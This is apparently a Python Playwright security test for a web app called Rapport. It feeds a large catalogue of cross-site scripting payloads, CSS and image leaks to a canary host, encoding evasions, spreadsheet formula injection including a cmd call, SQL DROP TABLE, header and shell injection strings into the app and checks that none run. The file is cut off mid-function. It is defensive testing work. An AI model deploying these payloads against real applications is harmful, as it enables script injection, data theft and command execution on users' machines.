"""No script from data: texts that want to be scripts are brought in every way there is, and every page is looked at.

    scripts.py BASE TOKEN

BASE: where the server listens, on an empty store. TOKEN: its set-up token. Everything is looked at twice: with the content
security policy switched off, when nothing but escaping keeps a text a text, and with it on, when nothing may even try. Every
text has a number of its own, so that whatever happens names the field, the payload and the form it came from. Ends with 1 and
a list when something is not as it should be.
"""

import asyncio
import csv
import html
import io
import itertools
import json
import re
import sys
import time
import unicodedata
from urllib.parse import quote, unquote, urlsplit

from playwright.async_api import async_playwright

BASE, TOKEN = sys.argv[1], sys.argv[2]
PASSWORD = "seven green bottles"
LANGUAGES = ["en-GB", "zh-CN"]
ROLES = {"ann": "salesperson", "max": "manager", "boss": "admin"}
faults = []


# 1. Payloads. RUN becomes a call with the text's number, CANARY an address that nobody may ask for, NUM the number.

# What runs, or asks for something, wherever markup is read.
ELEMENTS = {
    "script": "<script>RUN</script>",
    "script-case": "<ScRiPt>RUN</sCrIpT >",
    "script-slash": "<script/x>RUN</script/x>",
    "script-module": "<script type=module>RUN</script>",
    "script-data": "<script src=data:text/javascript,RUN></script>",
    "script-canary": "<script src=//CANARY></script>",
    "script-newline": "<script\n>\nRUN\n</script\n>",
    "svg-script": "<svg><script>RUN</script></svg>",
    "svg-script-href": "<svg><script href=data:text/javascript,RUN></script></svg>",
    "svg-script-entity": "<svg><script>&#95;_hit&lpar;NUM)</script></svg>",
    "img": "<img src=x onerror=RUN>",
    "img-slash": "<img/src=''/onerror=RUN>",
    "img-quotes": '<img src="x" onerror="RUN">',
    "img-entity": "<img src=x onerror=&#95;&#x5f;hit&lpar;NUM&rpar;>",
    "img-tab": "<img\tsrc=x\tonerror=RUN>",
    "img-newline": "<img\nsrc=x\nonerror\n=\nRUN>",
    "img-open": "<img src=x onerror=RUN x='",
    "img-case": "<IMG SRC=x ONERROR=RUN>",
    "image": "<image src=x onerror=RUN>",
    "svg-load": "<svg onload=RUN>",
    "svg-image": "<svg><image href=x onerror=RUN></svg>",
    "svg-animate": "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "svg-set": "<svg><set onbegin=RUN attributeName=x></svg>",
    "svg-foreign": "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "svg-anchor": "<svg><a href=javascript:RUN><text y=20>x</text></a></svg>",
    "svg-xlink": "<svg><a xlink:href=javascript:RUN><text y=20>x</text></a></svg>",
    "math-img": "<math><mi><img src=x onerror=RUN></mi></math>",
    "math-anchor": "<math><mtext><a href=javascript:RUN>x</a></mtext></math>",
    "body": "<body onload=RUN>",
    "body-show": "<body onpageshow=RUN>",
    "video": "<video src=x onerror=RUN></video>",
    "video-source": "<video><source src=x onerror=RUN></video>",
    "video-start": "<video onloadstart=RUN src=x></video>",
    "audio": "<audio src=x onerror=RUN></audio>",
    "details": "<details open ontoggle=RUN>x</details>",
    "audio-start": "<audio onloadstart=RUN src=x></audio>",
    "iframe-load": "<iframe onload=RUN></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "iframe-srcdoc-entity": "<iframe srcdoc=&lt;script&gt;RUN&lt;/script&gt;></iframe>",
    "iframe-javascript": "<iframe src=javascript:RUN></iframe>",
    "iframe-data": "<iframe src='data:text/html,<script>RUN</script>'></iframe>",
    "object": "<object data=x onerror=RUN></object>",
    "object-data": "<object data='data:text/html,<script>RUN</script>'></object>",
    "embed": "<embed type=text/html src='data:text/html,<script>RUN</script>'>",
    "style-load": "<style onload=RUN></style>",
    "link-error": "<link rel=stylesheet href=x onerror=RUN>",
    "link-data": "<link rel=stylesheet href='data:text/css,' onload=RUN>",
    "animation": "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=RUN>x</b>",
    "shadow": "<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>",
    "anchor": "<a href=javascript:RUN>x</a>",
    "anchor-entity": "<a href=javascript&colon;RUN>x</a>",
    "area": "<map><area href=javascript:RUN></map>",
    "form-action": "<form action=javascript:RUN><button>x</button></form>",
    "button-action": "<form><button formaction=javascript:RUN>x</button></form>",
    "input-action": "<form><input type=submit formaction=javascript:RUN></form>",
    "popover": "<button popovertarget=pNUM>x</button><p popover id=pNUM ontoggle=RUN>x</p>",
    "img-canary": "<img src=//CANARY>",
    "img-srcset": "<img srcset=//CANARY>",
    "img-dangling": "<img src='//CANARY?",
    "picture": "<picture><source srcset=//CANARY><img></picture>",
    "input-image": "<input type=image src=//CANARY>",
    "poster": "<video poster=//CANARY></video>",
    "background": "<table background=//CANARY><td>x</table>",
    "iframe-canary": "<iframe src=//CANARY></iframe>",
    "object-canary": "<object data=//CANARY></object>",
    "embed-canary": "<embed src=//CANARY>",
    "style-import": "<style>@import'//CANARY';</style>",
    "style-background": "<style>*{background:url(//CANARY)}</style>",
    "style-attribute": "<p style=background:url(//CANARY)>x</p>",
    "link-canary": "<link rel=stylesheet href=//CANARY>",
    "link-icon": "<link rel=preload as=image href=//CANARY>",
    "refresh": "<meta http-equiv=refresh content=0;url=//CANARY>",
    "base": "<base href=//CANARY/><img src=x>",
    "svg-image-canary": "<svg width=9 height=9><image href=//CANARY width=9 height=9 /></svg>",
    "svg-use": "<svg width=9 height=9><g filter=url(//CANARY#f)><rect width=9 height=9 /></g></svg>",
    "anchor-canary": "<a href=//CANARY>x</a>",
    "form-canary": "<form action=//CANARY><button>x</button></form>",
}

# A handler for each way to touch an element.
TOUCHES = {
    "a": "click", "b": "mouseover", "p": "mouseenter", "h1": "mousemove", "ul": "pointerdown", "dl": "pointerenter",
    "label": "pointerover", "section": "dblclick", "article": "contextmenu", "nav": "auxclick", "i": "wheel",
    "x-x": "focus", "fieldset": "focusin", "input": "focus", "select": "focus", "textarea": "focus", "button": "focus",
    "span": "dragstart", "pre": "copy", "main": "keydown", "em": "touchstart", "tt": "animationend", "u": "pointerup",
}

# Places in a page, and what leaves each of them for where markup is read.
PLACES = {
    "text": ("<div>{}</div>", ""),
    "double": ('<input value="{}">', '">'),
    "single": ("<input value='{}'>", "'>"),
    "bare": ("<input value={}>", "x>"),
    "hidden": ('<input type="hidden" value="{}">', '"/>'),
    "title": ("<title>{}</title>", "</title>"),
    "textarea": ("<textarea>{}</textarea>", "</textarea>"),
    "option": ("<select><option>{}</option></select>", "</option></select>"),
    "datalist": ('<datalist><option value="{}"></datalist>', '"></datalist>'),
    "cell": ("<table><tr><td>{}</td></tr></table>", "</td></tr></table>"),
    "comment": ("<!-- {} -->", "-->"),
    "comment-bang": ("<!-- {} -->", "--!>"),
    "script": ("<script>var a = 'x{}';</script>", "</script>"),
    "json": ('<script type="application/json">{"a": "{}"}</script>', '"}</script>'),
    "style": ("<style>a{color:{}}</style>", "</style>"),
    "template": ("<template>{}</template>", "</template>"),
    "noscript": ("<noscript>{}</noscript>", "</noscript>"),
    "iframe": ("<iframe>{}</iframe>", "</iframe>"),
    "xmp": ("<xmp>{}</xmp>", "</xmp>"),
    "noembed": ("<noembed>{}</noembed>", "</noembed>"),
    "noframes": ("<noframes>{}</noframes>", "</noframes>"),
    "svg-title": ("<svg><title>{}</title></svg>", "</title></svg>"),
    "svg-style": ("<svg><style>{}</style></svg>", "</style></svg>"),
    "svg-text": ("<svg><text>{}</text></svg>", "</text></svg>"),
    "cdata": ("<svg><![CDATA[{}]]></svg>", "]]></svg>"),
    "math": ("<math><annotation-xml>{}</annotation-xml></math>", "</annotation-xml></math>"),
    "anything": ("<textarea>{}</textarea>", "'\"></title></textarea></style></script>--></template></noscript></xmp>"),
}

# Markup goes on behind the text, so that what is left open is closed by it.
OPEN = "<div>{}</div><p title='x'>x</p>"

# Texts for one kind of place, which markup alone does not make dangerous.
SPECIAL = {
    "attribute-focus": ('<input value="{}">', '" autofocus onfocus=RUN x="'),
    "attribute-focus-single": ("<input value='{}'>", "' autofocus onfocus='RUN"),
    "attribute-focus-bare": ("<input value={}>", "x autofocus onfocus=RUN"),
    "attribute-slash": ('<input value="{}">', '"/onfocus="RUN'),
    "attribute-over": ('<p title="{}">x</p>', '" onmouseover="RUN'),
    "attribute-image": ('<input value="{}">', '" type="image" src="x" onerror="RUN'),
    "attribute-canary": ('<input value="{}">', '" type="image" src="//CANARY'),
    "attribute-action": ('<form><button value="{}">x</button></form>', '" formaction="javascript:RUN'),
    "attribute-style": ('<p class="{}">x</p>', '" style="background:url(//CANARY)'),
    "attribute-srcdoc": ('<iframe title="{}"></iframe>', '" srcdoc="&lt;script&gt;RUN&lt;/script&gt;'),
    "attribute-href": ('<a title="{}">x</a>', '" href="javascript:RUN'),
    "attribute-animation": ('<p class="{}">x</p>', '" onanimationstart="RUN'),
    "handler": ("""<a onclick="String('{}')">x</a>""", "'+RUN+'"),
    "handler-entity": ("""<a onclick="String('{}')">x</a>""", "&#39;-RUN-&apos;"),
    "handler-entity-bare": ("""<a onclick="String('{}')">x</a>""", "&#39-RUN-&#x27"),
    "js-double": ('<script>var a = "{}";</script>', '";RUN;"'),
    "js-single": ("<script>var a = '{}';</script>", "'-RUN-'"),
    "js-template": ("<script>var a = `{}`;</script>", "${RUN}"),
    "js-template-end": ("<script>var a = `{}`;</script>", "`;RUN;`"),
    "js-backslash": ('<script>var a = "\\{}";</script>', '\\";RUN//'),
    "js-comment": ("<script>/* {} */</script>", "*/RUN/*"),
    "js-line": ("<script>// {}\n</script>", "x\u2028RUN"),
    "js-paragraph": ("<script>// {}\n</script>", "x\u2029RUN"),
    "js-newline": ("<script>// {}\n</script>", "x\nRUN"),
    "js-pattern": ("<script>var a = /{}/;</script>", "x/;RUN;/"),
    "json-end": ('<script>var a = {"a": "{}"};</script>', '"};RUN;//'),
    "json-closed": ('<script>var a = [{}];</script>', "0];RUN;["),
    "css-value": ("<style>p{color:{}}</style><p>x</p>", "red;background:url(//CANARY)"),
    "css-rule": ("<style>p{color:{}}</style><p>x</p>", "red}*{background:url('//CANARY')"),
    "css-import": ("<style>{}</style>", "@import url(//CANARY);"),
    "css-attribute": ('<p style="color:{}">x</p>', "red;background:url(//CANARY)"),
    "css-escape": ('<p style="color:{}">x</p>', "red;background:u\\72l(//CANARY)"),
    "css-value-selector": ("<style>{}</style><input value=7>", "input[value^='7']{background:url(//CANARY)}"),
}

# Addresses, and where they do harm: to be clicked, to be framed, to be gone to.
CLICKED, FRAMED = '<a href="{}">x</a>', '<iframe src="{}"></iframe>'
ADDRESSES = {
    "javascript": (CLICKED, "javascript:RUN"),
    "javascript-case": (CLICKED, "jAvAsCrIpT:RUN"),
    "javascript-tab": (CLICKED, "java\tscript:RUN"),
    "javascript-newline": (CLICKED, "java\nscript\n:RUN"),
    "javascript-control": (CLICKED, "\x01javascript:RUN"),
    "javascript-entity": (CLICKED, "&#106;avascript&#58;RUN"),
    "javascript-entity-tab": (CLICKED, "java&Tab;script&colon;RUN"),
    "javascript-comment": (CLICKED, "javascript://%0aRUN"),
    "javascript-percent": (CLICKED, "javascript:%5f%5fhit(NUM)"),
    "javascript-void": (CLICKED, "javascript:void(RUN)"),
    "javascript-framed": (FRAMED, "javascript:RUN"),
    "javascript-sent": ('<form action="{}"><button>x</button></form>', "javascript:RUN"),
    "data-framed": (FRAMED, "data:text/html,<script>RUN</script>"),
    "data-svg": (FRAMED, "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>"),
    "data-charset": (FRAMED, "data:text/html;charset=utf-8,%3Cscript%3ERUN%3C/script%3E"),
    "slashes": (CLICKED, "//CANARY"),
    "backslashes": (CLICKED, "\\\\CANARY"),
    "slash-backslash": (CLICKED, "/\\CANARY"),
    "slash-tab": (CLICKED, "/\t/CANARY"),
    "slashes-three": (CLICKED, "///CANARY"),
    "http": (CLICKED, "http://CANARY"),
    "http-slashless": (CLICKED, "http:/\\CANARY"),
}

# Texts that are markup once somebody decodes them a second time, by how that would go.
DECODED = {
    "entities": (html.unescape, "&lt;img src=x onerror=RUN&gt;"),
    "entities-number": (html.unescape, "&#60;img src=x onerror=RUN&#62;"),
    "entities-hex": (html.unescape, "&#x3c;img src=x onerror=RUN&#x3e;"),
    "entities-open": (html.unescape, "&ltimg src=x onerror=RUN&gt"),
    "entities-twice": (lambda text: html.unescape(html.unescape(text)), "&amp;lt;img src=x onerror=RUN&amp;gt;"),
    "percent": (unquote, "%3Cimg src=x onerror=RUN%3E"),
    "percent-twice": (lambda text: unquote(unquote(text)), "%253Cimg src=x onerror=RUN%253E"),
    "percent-quote": (lambda text: f'<input value="{unquote(text)}">', "%22%20autofocus%20onfocus=RUN%20x=%22"),
    "json": (lambda text: json.loads(f'"{text}"'), "\\u003cimg src=x onerror=RUN\\u003e"),
    "json-slash": (lambda text: json.loads(f'["<p>","{text}"]')[1], "\\u003cscript\\u003eRUN\\u003c\\/script\\u003e"),
    "hex": (lambda text: text.replace("\\x3c", "<").replace("\\x3e", ">"), "\\x3cimg src=x onerror=RUN\\x3e"),
    "full-width": (lambda text: unicodedata.normalize("NFKC", text), "＜img src=x onerror=RUN＞"),
    "small": (lambda text: unicodedata.normalize("NFKC", text), "﹤img src=x onerror=RUN﹥"),
    "utf-7": (lambda text: text.replace("+ADw-", "<").replace("+AD4-", ">"), "+ADw-img src=x onerror=RUN+AD4-"),
    "soft-hyphen": (lambda text: text.replace("\xad", ""), "<\xadimg src=x onerror=RUN>"),
    "zero-width": (lambda text: text.replace("\u200b", ""), "<\u200bimg src=x onerror=RUN>"),
    "byte-order": (lambda text: text.replace("\ufeff", ""), "<\ufeffscript>RUN</\ufeffscript>"),
}

# Texts that are no script to a browser, and have to be shown as they are all the same: formulas of spreadsheets, and what
# templates, shells, logs and formats take for theirs.
INERT = {
    "formula": "=1+NUM",
    "formula-link": '=HYPERLINK("http://CANARY","x")',
    "formula-plus": "+NUM+1",
    "formula-minus": "-NUM+1",
    "formula-at": "@SUM(NUM)",
    "formula-pipe": "=cmd|'/c calc NUM'!A0",
    "formula-full-width": "＝1+NUM",
    "formula-quote": "'=NUM+1",
    "formula-cell": '"=NUM","=NUM"',
    "braces": "{{NUM*7}}",
    "braces-call": "{{constructor.constructor('RUN')()}}",
    "braces-name": "{customer} {value} {limit} {user} {NUM}",
    "dollar": "${NUM*7} #{NUM*7} <%= NUM*7 %>",
    "swift": "\\(NUM) %@ %s %n %NUM$s",
    "sql": "'; DROP TABLE customer; -- NUM",
    "header": "x\nSet-Cookie: canary=NUM",
    "event": "x\n\nevent: changed\ndata: {\"customers\":[\"NUM\"]}",
    "shell": "$(echo NUM) `echo NUM` | echo NUM &",
    "yaml": "!!python/object:NUM {a: *b, <<: &c}",
    "markdown": "[x](javascript:RUN) ![x](//CANARY)",
    "vbscript": "vbscript:MsgBox(NUM)",
    "script-in-comment": "<!--<script>NUM",
    "user": "http://127.0.0.1@CANARY",
}


class Payload:
    """One way to try: its text, and the page that would be its victim."""

    def __init__(self, name, text, victim=None, decode=None):
        self.name, self.text, self.victim, self.decode = name, text, victim, decode

    def page(self, text):
        """A page that takes `text` for markup."""
        return "<!doctype html><body>" + self.victim.replace("{}", self.decode(text) if self.decode else text)


def payloads():
    everything = [Payload(f"element {name}", text, OPEN) for name, text in ELEMENTS.items()]
    for tag, event in TOUCHES.items():
        everything.append(Payload(f"touch {event}", f"<{tag} tabindex=0 on{event}=RUN>x</{tag}>", "<div>{}</div>"))
    # Out of every place by three elements each, so that every element gets out of some.
    turn = itertools.cycle(["img", "script", "svg-load", "details", "img-canary", "iframe-srcdoc", "body", "anchor"])
    for place, (victim, out) in PLACES.items():
        if out:
            names = itertools.islice(turn, 3)
            everything += [Payload(f"out of {place} by {name}", out + ELEMENTS[name], victim) for name in names]
    for kind in (SPECIAL, ADDRESSES):
        everything += [Payload(name, text, victim) for name, (victim, text) in kind.items()]
    everything += [Payload(f"decoded {name}", text, "<div>{}</div>", way) for name, (way, text) in DECODED.items()]
    return everything + [Payload(f"inert {name}", text) for name, text in INERT.items()]


def marked(text, mark):
    """`mark` behind each sign that ends something: to who compares characters, sign and mark are one that is harmless."""
    text = re.sub(r"^(['\"])", r"\1" + mark, text)
    return re.sub(r"(?<=[>'\"])(?=[<>])", mark, text) + mark


FORMS = {
    "plain": lambda text: text,
    "U+0600": lambda text: "\u0600" + text.replace("<", "\u0600<").removeprefix("\u0600"),
    "U+0301": lambda text: marked(text, "\u0301"),
    "U+FE0F": lambda text: marked(text, "\ufe0f"),
    "NFD": lambda text: unicodedata.normalize("NFD", f"é≮{text}≯é"),
    "RTL": lambda text: f"\u202e{text}\u202c",
    # Nothing that is kept has one: this form is to be refused wherever it is sent.
    "NUL": lambda text: re.sub(r"^(.?)(.?)", "\\1\0\\2", text, count=1),
}
PAYLOADS = payloads()


class Text:
    """A payload in one form, for one field, with a number of its own."""

    known = []

    def __init__(self, field, payload, form, fit=None):
        self.number = 100_000 + len(Text.known)
        Text.known.append(self)
        self.field, self.payload, self.form = field, payload, form
        self.is_taken = self.is_shown = False
        text = payload.text
        for name, value in (("RUN", f"__hit({self.number})"), ("CANARY", f"canary.example/{self.number}")):
            text = text.replace(name, value)
        text = text.replace("NUM", str(self.number))
        self.text = FORMS[form](text if fit is None else fit(text))

    def __str__(self):
        return f"{self.field}: {self.payload.name}, {self.form}"

    @staticmethod
    def of(number):
        place = int(number) - 100_000
        return Text.known[place] if 0 <= place < len(Text.known) else f"text {number}"

    def is_kept(self, prose):
        """Whether Rapport keeps such a text: control characters it refuses, but for tabs and line ends in prose."""
        return not re.search("[\0-\x08\x0b-\x1f\x7f-\x9f]" if prose else "[\0-\x1f\x7f-\x9f]", self.text)


def every(field, fit=None, forms=FORMS):
    """All payloads in all forms."""
    return [Text(field, payload, form, fit) for payload in PAYLOADS for form in forms]


def some(field, fit=None, forms=FORMS, start=0):
    """All payloads, each in one form, in turn."""
    names = list(forms)
    return [Text(field, payload, names[(index + start) % len(names)], fit) for index, payload in enumerate(PAYLOADS)]


def everything(field, start=0):
    """All payloads in one text, which nothing keeps for the NULs in it."""
    return " ".join(text.text for text in some(field, start=start))


def packed(texts, size, between=" \u00b7 "):
    """Several texts in one, at most so many bytes of it."""
    packs, length = [], 0
    for text in texts:
        length += len(text.text.encode()) + len(between.encode())
        if not packs or length > size:
            packs.append([])
            length = len(text.text.encode())
        packs[-1].append(text)
    return [(between.join(text.text for text in pack), pack) for pack in packs]


# What is a separator where it is sent is left out.
def no_list(text):
    return text.replace(";", "")


def no_tag(text):
    return re.sub("[;,，]", "", text)


def no_path(text):
    """What a name of a file can be told as: browsers write other signs for quotes, and slashes are none of a name."""
    return re.sub(r"[;/\\\t\n]", "", text).replace('"', "'")


def no_blank(text):
    """An address: one sign in its middle, and no blanks."""
    return re.sub(r"[\s;@\u2028\u2029]", "/", text) + "@x.example"


# 2. Seats, and what happens at them.

# What pages are made of. Whatever else stands in one came out of a text.
LOOK = r"""
(isRead) => {
  const found = [];
  const say = (what, node) => found.push(what + ': ' + (node.outerHTML || node.nodeValue || '').slice(0, 160));
  const tags = new Set(('html head body title meta link script header footer main nav section article aside div h1 h2 h3 p ' +
    'span strong small code pre time a ul ol li dl dt dd table caption thead tbody tr th td form fieldset legend label ' +
    'button select option optgroup textarea datalist details summary svg g rect path text circle input br hr').split(' '));
  const names = new Set(('lang dir class id title role aria-label aria-current aria-describedby aria-hidden aria-live ' +
    'aria-labelledby aria-invalid data-live data-of data-label data-switching data-keys data-due data-customer data-all data-news data-submit href src ' +
    'action rel type method enctype accept content autocomplete scope charset inputmode name value label for form list ' +
    'placeholder datetime rows colspan maxlength tabindex required checked selected open hidden autofocus disabled multiple ' +
    'defer x y width height rx viewBox d').split(' '));
  for (const element of document.querySelectorAll('*')) {
    if (!tags.has(element.localName)) say('an element that is none of ours', element);
    for (const attribute of element.attributes)
      if (!names.has(attribute.name)) say('an attribute that is none of ours, ' + attribute.name, element);
    for (const name of ['href', 'src', 'action']) {
      const address = element.getAttribute(name);
      if (address === null) continue;
      if (element.localName === 'a' && /^(mailto:[A-Za-z0-9%@._~-]*|tel:[0-9+]*)$/.test(address)) continue;
      let to = null;
      try { to = new URL(address, document.baseURI); } catch (error) { /* It is said below. */ }
      if (!to || to.origin !== location.origin || !/^[/#]/.test(address) || /^\/[/\\]/.test(address))
        say('an address that leads elsewhere', element);
    }
  }
  for (const script of document.scripts)
    if (!/^\/assets\/rapport-[0-9a-f]+\.js$/.test(script.getAttribute('src')) || script.textContent) say('a script', script);
  if (document.scripts.length !== 1) found.push('not one script: ' + document.scripts.length);
  if (document.querySelector('meta[http-equiv]')) say('a command', document.querySelector('meta[http-equiv]'));
  const walk = document.createTreeWalker(document, NodeFilter.SHOW_COMMENT | NodeFilter.SHOW_PROCESSING_INSTRUCTION);
  while (walk.nextNode()) say('a comment', walk.currentNode);
  const fields = [];
  for (const field of document.querySelectorAll('form input, form textarea')) {
    if (['hidden', 'checkbox', 'radio', 'submit'].includes(field.getAttribute('type'))) continue;
    fields.push(field.closest('form').getAttribute('action') + ' ' + field.name);
  }
  let said = '';
  if (isRead) {
    for (const details of document.querySelectorAll('details')) details.open = true;
    const values = Array.from(document.querySelectorAll('input:not([type=hidden]), textarea'), (field) => field.value);
    const options = Array.from(document.querySelectorAll('option'), (option) => option.text);
    said = [document.body.innerText].concat(values, options).join('\n');
  }
  return { found, fields, said };
}
"""

# Fills in a form and sends it, whatever browsers would say against it.
TYPE = r"""
([id, values, button]) => {
  const form = document.getElementById(id);
  for (const [name, value] of Object.entries(values)) {
    for (const field of form.querySelectorAll(`[name="${name}"]`)) {
      if (field.type === 'radio' || field.type === 'checkbox') { field.checked = field.value === value; continue; }
      // What a choice does not offer is said all the same.
      const isOffered = field.localName !== 'select' || [...field.options].some((option) => option.value === value);
      if (!isOffered) field.options[0].value = value;
      if (field.localName === 'input' && field.type !== 'hidden') field.type = 'text';
      field.value = value;
    }
  }
  form.noValidate = true;
  const by = form.querySelector(button || 'button');
  setTimeout(() => HTMLFormElement.prototype.requestSubmit.call(form, by), 0);
  return form.getAttribute('action');
}
"""

LISTEN = """
document.addEventListener('securitypolicyviolation', (event) =>
  __violation(event.effectiveDirective + ' ' + event.blockedURI + ' ' + event.sample), true);
"""


def plain(text):
    """As a page shows it: composed, with one blank for all white space."""
    return " ".join(unicodedata.normalize("NFC", text).split())


class Seat:
    """Somebody at a browser of their own. Whatever a text does there is a fault, but at a control."""

    looks, refusals = 0, 0
    tried, seen = set(), set()

    def __init__(self, name, is_control=False):
        self.name, self.is_control, self.at, self.said, self.typed = name, is_control, "", "", ""
        self.hits, self.asked, self.violations = set(), set(), []

    @staticmethod
    async def open(browser, name, locale="en-GB", is_off=True, state=None, is_control=False):
        seat = Seat(name, is_control)
        seat.is_off = is_off
        seat.context = await browser.new_context(base_url=BASE, locale=locale, bypass_csp=is_off, storage_state=state)
        await seat.context.expose_binding("__hit", lambda source, number=0: seat.hit(number))
        await seat.context.expose_binding("__violation", lambda source, what: seat.violation(what))
        await seat.context.add_init_script(LISTEN)
        seat.context.on("request", seat.request)
        seat.context.on("dialog", seat.dialog)
        seat.context.on("console", seat.console)
        seat.page = await seat.context.new_page()
        seat.page.on("popup", lambda page: seat.say(f"another page, {page.url}"))
        seat.page.on("framenavigated", seat.went)
        seat.page.on("pageerror", lambda error: seat.say(f"a script's fault: {error}"))
        return seat

    def say(self, what):
        if not self.is_control:
            faults.append(f"{self.name} at {self.at[:100]}: {what}")

    def hit(self, number):
        self.hits.add(number)
        self.say(f"it ran: {Text.of(number)}")

    def violation(self, what):
        self.violations.append(what)
        self.say(f"against the policy: {what}")

    def request(self, request):
        if request.url.startswith((BASE, "mailto:", "tel:")) or self.is_control and not urlsplit(request.url).hostname:
            return
        for number in re.findall(r"\d{6}", request.url):
            self.asked.add(int(number))
        self.say(f"asked for {request.url[:100]}")

    async def dialog(self, dialog):
        self.say(f"a dialog: {dialog.message}")
        await dialog.dismiss()

    def console(self, message):
        if re.search("Content Security Policy|Trusted|Refused to", message.text):
            self.violation(f"console: {message.text[:160]}")

    def went(self, frame):
        if frame != self.page.main_frame:
            self.say(f"a frame, {frame.url[:100]}")
        elif not frame.url.startswith(BASE) and frame.url != "about:blank":
            self.say(f"gone to {frame.url[:100]}")

    async def go(self, path):
        """Opens a page and looks at it."""
        self.at, self.typed = path, ""
        # What is against the policy is so at once; what runs may have to fail to load first.
        response = await self.page.goto(path, wait_until="load" if self.is_off else "domcontentloaded")
        await self.look(response)

    async def look(self, response):
        Seat.looks += 1
        policy = response.headers.get("content-security-policy", "")
        if "script-src 'self'" not in policy or "unsafe" in policy:
            self.say(f"the policy is “{policy}”")
        if response.headers.get("content-type") != "text/html; charset=utf-8":
            self.say(f"of type {response.headers.get('content-type')}")
            return
        told = await self.page.evaluate(LOOK, self.is_off)
        for fault in told["found"]:
            self.say(fault)
        Seat.seen.update(told["fields"])
        if not self.is_off:
            return
        said = plain(told["said"])
        for number in set(re.findall(r"(?<!\d)\d{6}(?!\d)", said)):
            text = Text.of(number)
            if isinstance(text, Text) and not text.is_shown and plain(text.text) in said:
                text.is_shown = True
        self.said = said

    async def type(self, path, form, values, is_taken=None, texts=(), button=None):
        """Types into a form at `path` and sends it.

        - `is_taken`: what is to come of it; None is whatever comes.
        - `texts`: those that are typed.
        """
        # Where a form was just sent, the page that came has it again.
        if self.typed != path or not await self.page.locator(f"[id='{form}']").count():
            await self.go(path)
        self.typed = path
        self.at = f"{path} {form} {' '.join(name for name, value in values.items() if len(value) > 30)}"
        if not await self.page.locator(f"[id='{form}']").count():
            raise RuntimeError(f"{self.at}: no such form: {self.said[:300]}")
        async with self.page.expect_navigation() as navigation:
            action = await self.page.evaluate(TYPE, [form, values, button])
        Seat.tried.update(f"{action} {name}" for name in values)
        response = await navigation.value
        await self.look(response)
        was_taken = response.status == 200
        if is_taken is not None and was_taken != is_taken:
            told = await self.page.locator("[role=alert]").all_inner_texts()
            self.say(f"{'taken' if was_taken else 'refused'}, {response.status}: {' '.join(told)[:200]}")
        Seat.refusals += 0 if was_taken else 1
        for text in texts:
            text.is_taken = True


# 3. Controls: what would happen if nobody escaped.

# Puts each page into a frame of its own and touches all that is in it.
PLAY = """
async (pages) => {
  const wait = (time) => new Promise((done) => setTimeout(done, time));
  const events = TOUCHES;
  const frames = pages.map((page) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = page;
    frame.loaded = new Promise((done) => { frame.onload = done; });
    document.body.append(frame);
    return frame;
  });
  await Promise.race([Promise.all(frames.map((frame) => frame.loaded)), wait(5000)]);
  await wait(200);
  for (const frame of frames) {
    // One that has gone elsewhere cannot be looked into.
    let all = [];
    try { all = [...frame.contentDocument.querySelectorAll('*')]; } catch (error) { continue; }
    for (const element of all.filter((element) => [...element.attributes].some((a) => /^on|^x:|href|^popover/.test(a.name))
                                                  || /^(button|input)$/.test(element.localName))) {
      for (const event of events) element.dispatchEvent(new Event(event, { bubbles: true }));
      if (element.click) element.click();
      else element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    }
  }
  await wait(500);
  for (const frame of frames) frame.remove();
}
""".replace("TOUCHES", json.dumps(sorted(set(TOUCHES.values()) - {"click"}) + ["animationstart"]))


async def control(browser):
    """Every payload does its harm where nobody escapes it: without that, silence elsewhere would prove nothing."""
    seat = await Seat.open(browser, "control", is_control=True)
    body = "<!doctype html><body>"
    await seat.page.route(BASE + "/control", lambda route: route.fulfill(body=body, content_type="text/html"))
    # All as they are, and some in other forms.
    forms = [form for form in FORMS if form not in ("plain", "NUL")]
    texts = some("control", forms=["plain"]) + some("control", forms=forms)[::5]
    texts = [text for text in texts if text.payload.victim]
    for start in range(0, len(texts), 70):
        await seat.page.goto("/control")
        await seat.page.evaluate(PLAY, [text.payload.page(text.text) for text in texts[start:start + 70]])
    live = [text for text in texts if text.number in seat.hits or text.number in seat.asked]
    await seat.context.close()
    for text in texts:
        if text.form == "plain" and text not in live:
            faults.append(f"control: does no harm: {text}")

    # What the policy forbids is told by the browser, and is noticed here.
    seat = await Seat.open(browser, "control", is_off=False, is_control=True)
    policy = (await seat.context.request.get("/login")).headers["content-security-policy"]
    body = "<!doctype html><body><img src=x onerror=__hit(1)><script>__hit(2)</script><p style=color:red>x</p>"
    await seat.page.route(BASE + "/control", lambda route: route.fulfill(
        body=body, content_type="text/html", headers={"content-security-policy": policy, "content-type": "text/html"}))
    await seat.page.goto("/control")
    await seat.page.wait_for_timeout(300)
    if seat.hits or not any("script-src" in what for what in seat.violations) or not any(
            "style-src" in what for what in seat.violations):
        faults.append(f"control: the policy held back {seat.violations}, and {seat.hits} ran")
    found = " ".join((await seat.page.evaluate(LOOK, False))["found"])
    for what in ["an element that is none of ours: <img", "an attribute that is none of ours, onerror", "a script: <script>",
                 "an attribute that is none of ours, style"]:
        if what not in found:
            faults.append(f"control: nobody saw {what}")
    await seat.context.close()
    return live


# 4. Bringing the texts in.

WORKED = [f"W{number}" for number in range(1, 150)]
DENSE = ["D1", "D2"]
TOLD = [f"T{number}" for number in range(1, 12)]
# What one field of a file or form holds.
FIELD = 60_000
KEY = 200


def kept(texts, prose=False, limit=FIELD):
    return [text for text in texts if text.is_kept(prose) and len(text.text.encode()) <= limit]


def refused(texts, prose=False):
    return [text for text in texts if not text.is_kept(prose)]


def table(header, rows):
    file = io.StringIO()
    # The mark says that it is UTF-8, whatever a NUL in it looks like.
    file.write("\ufeff")
    writer = csv.writer(file, quoting=csv.QUOTE_ALL)
    writer.writerow(header)
    writer.writerows(rows)
    return file.getvalue().encode()


class Import:
    """A file on its way through the page."""

    refused = 0

    def __init__(self, seat, name, content, kind="customers"):
        self.seat, self.name, self.content, self.kind = seat, name, content, kind

    async def send(self):
        seat = self.seat
        await seat.go("/import")
        seat.at = f"/import {self.name[:40]}"
        await seat.page.check(f"[name=kind][value={self.kind}]")
        await seat.page.set_input_files(
